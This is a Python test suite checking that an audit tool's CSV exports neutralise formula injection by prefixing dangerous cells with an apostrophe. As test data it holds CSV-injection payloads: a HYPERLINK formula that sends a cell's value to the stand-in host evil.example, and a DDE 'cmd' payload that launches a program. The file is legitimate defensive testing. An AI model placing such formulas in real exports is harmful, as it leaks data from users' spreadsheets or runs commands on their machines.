"""CSV exports: one row per metric and per finding; formula cells neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditkit.export import METRICS_COLUMNS, findings_rows, metrics_rows, neutralise, write_csv_exports

# Cells a spreadsheet would evaluate, and what they must become.
FORMULA_CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("-cmd", "'-cmd"),
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
]
# Cells that must stay as they are.
PLAIN_CELLS: list[tuple[Any, Any]] = [
    (-0.25, -0.25),
    (-3, -3),
    ("-0.25", "-0.25"),
    ("-1e-05", "-1e-05"),
    ("+7", "+7"),
    ("P0001", "P0001"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (True, "true"),
    (float("nan"), ""),
]


@pytest.mark.parametrize(("cell", "expected"), FORMULA_CELLS)
def test_formula_cells_get_a_leading_apostrophe(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


@pytest.mark.parametrize(("cell", "expected"), PLAIN_CELLS)
def test_numbers_and_plain_text_are_kept(cell: Any, expected: Any) -> None:
    assert neutralise(cell) == expected
    assert type(neutralise(cell)) is type(expected)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=12))
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert isinstance(cell, str)
    if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")):
        float(cell)  # only a plain number may start with a sign


def _results(**overrides: Any) -> dict[str, Any]:
    results: dict[str, Any] = {
        "checks": [
            {
                "id": "calibration",
                "metrics": [
                    {
                        "name": "calibration.ece",
                        "labels": {},
                        "value": 0.031,
                        "ci": [0.02, 0.05],
                        "n": 120,
                        "direction": "lower_is_better",
                    },
                    {
                        "name": "calibration.ece",
                        "labels": {"group_by": "sex", "group": "=1+1"},
                        "value": None,
                        "ci": None,
                        "n": 0,
                        "direction": "lower_is_better",
                        "reason": "-no images",
                    },
                ],
                "findings": [],
            },
            {
                "id": "evil_plugin",
                "metrics": [
                    {
                        "name": "evil_plugin.delta",
                        "labels": {"@attack": "+x"},
                        "value": -0.25,
                        "ci": [-0.5, -0.1],
                        "n": 3,
                        "direction": "higher_is_better",
                    }
                ],
                "findings": [
                    {"kind": '=HYPERLINK("http://evil.example")', "split": "eval", "row": 3, "score": -1.5},
                    {"kind": "nested", "where": {"split": "train", "rows": [1, 2]}, "check": "-shadow", "=col": 1},
                ],
            },
        ]
    }
    results.update(overrides)
    return results


def _read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_metrics_csv_one_row_per_metric(tmp_path: Path) -> None:
    write_csv_exports(tmp_path, _results())
    rows = _read(tmp_path / "metrics.csv")
    assert rows[0] == list(METRICS_COLUMNS)
    assert len(rows) == 1 + 3
    overall = dict(zip(rows[0], rows[1], strict=True))
    assert overall == {
        "check": "calibration",
        "name": "calibration.ece",
        "labels": "",
        "value": "0.031",
        "ci_low": "0.02",
        "ci_high": "0.05",
        "n": "120",
        "direction": "lower_is_better",
        "reason": "",
    }
    group = dict(zip(rows[0], rows[2], strict=True))
    assert json.loads(group["labels"]) == {"group": "=1+1", "group_by": "sex"}  # JSON starts with "{"
    assert group["value"] == "" and group["reason"] == "'-no images"
    evil = dict(zip(rows[0], rows[3], strict=True))
    assert evil["value"] == "-0.25" and evil["ci_low"] == "-0.5"  # real negative numbers stay numbers
    assert json.loads(evil["labels"]) == {"@attack": "+x"}


def test_numbers_are_unquoted_and_text_is_quoted(tmp_path: Path) -> None:
    write_csv_exports(tmp_path, _results())
    lines = (tmp_path / "metrics.csv").read_text(encoding="utf-8").splitlines()
    assert lines[3].startswith('"evil_plugin","evil_plugin.delta",')
    assert ",-0.25,-0.5,-0.1,3," in lines[3]


def test_findings_csv_flattens_fields_and_neutralises_every_cell(tmp_path: Path) -> None:
    write_csv_exports(tmp_path, _results())
    rows = _read(tmp_path / "findings.csv")
    header, body = rows[0], rows[1:]
    assert header[:3] == ["check", "index", "kind"]
    assert "where.split" in header and "where.rows" in header and "'=col" in header
    assert "finding.check" in header  # a field named like a leading column is kept apart
    assert len(body) == 2
    first = dict(zip(header, body[0], strict=True))
    assert first["kind"] == '\'=HYPERLINK("http://evil.example")'
    assert first["score"] == "-1.5" and first["row"] == "3"
    second = dict(zip(header, body[1], strict=True))
    assert second["where.rows"] == "[1,2]" and second["finding.check"] == "'-shadow"
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_empty_results_give_header_only_files(tmp_path: Path) -> None:
    write_csv_exports(tmp_path, {"checks": []})
    assert _read(tmp_path / "metrics.csv") == [list(METRICS_COLUMNS)]
    assert _read(tmp_path / "findings.csv") == [["check", "index", "kind"]]
    assert metrics_rows({}) == [] and findings_rows({}) == (["check", "index", "kind"], [])


def test_a_run_writes_the_csvs_into_the_verified_bundle(tiny_study: Path) -> None:
    from auditkit.bundle import verify_bundle
    from auditkit.runner import RunOptions, run_audit
    from auditkit.spec import load_spec

    outcome = run_audit(load_spec(tiny_study), RunOptions(only=["calibration"], report=False))
    out = outcome.out_dir
    manifest = json.loads((out / "manifest.json").read_text())
    assert {"metrics.csv", "findings.csv"} <= {entry["path"] for entry in manifest["outputs"]}
    metrics = _read(out / "metrics.csv")
    n_metrics = sum(len(c["metrics"]) for c in outcome.results["checks"])
    assert len(metrics) == 1 + n_metrics
    assert verify_bundle(out).ok
